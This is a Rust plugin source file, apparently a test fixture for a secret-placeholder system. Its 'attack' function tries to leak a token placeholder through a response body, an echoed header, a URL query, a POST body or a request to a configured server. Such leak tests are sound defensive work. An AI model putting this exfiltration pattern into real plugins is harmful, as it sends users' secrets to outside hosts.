//! Is given a placeholder of a secret, and wants the secret. The configuration says how.

use stile_sdk::prelude::*;

#[config]
struct Leak {
    how: How,
    url: String,
}

#[config]
#[derive(Clone, Copy)]
enum How {
    /// Looks at the text itself.
    Text,
    /// Has the server repeat it.
    Echo,
    /// Puts it into the URL, which stands in logs.
    Url,
    /// Puts it into the body.
    Body,
    /// Sends it to a server.
    Send,
}

#[plugin(config = Self, capabilities(outgoing_http = "to get out", secrets = "to get at them"))]
impl Leak {
    #[pre]
    fn attack(&self) -> Result<Reply, String> {
        let placeholder = secrets::placeholder("token").map_err(|error| format!("{error:?}"))?;
        let url = self.url.as_str();
        let sent = match self.how {
            How::Text => return Ok(Reply::new(200).body(placeholder.replace(|c: char| c.is_ascii_hexdigit(), "h"))),
            How::Echo | How::Send => http::get(url).header("x-secret", placeholder).send(),
            How::Url => http::get(format!("{url}?{placeholder}")).send(),
            How::Body => http::post(url).body(placeholder).send(),
        };
        let told = match sent {
            Err(error) => error.to_string(),
            Ok(answer) if matches!(self.how, How::Echo) => {
                let field = answer.header_text("x-secret").unwrap_or_default();
                format!("{field} {}", String::from_utf8_lossy(&answer.body))
            }
            Ok(answer) => answer.status.to_string(),
        };
        Ok(Reply::new(200).body(told))
    }
}
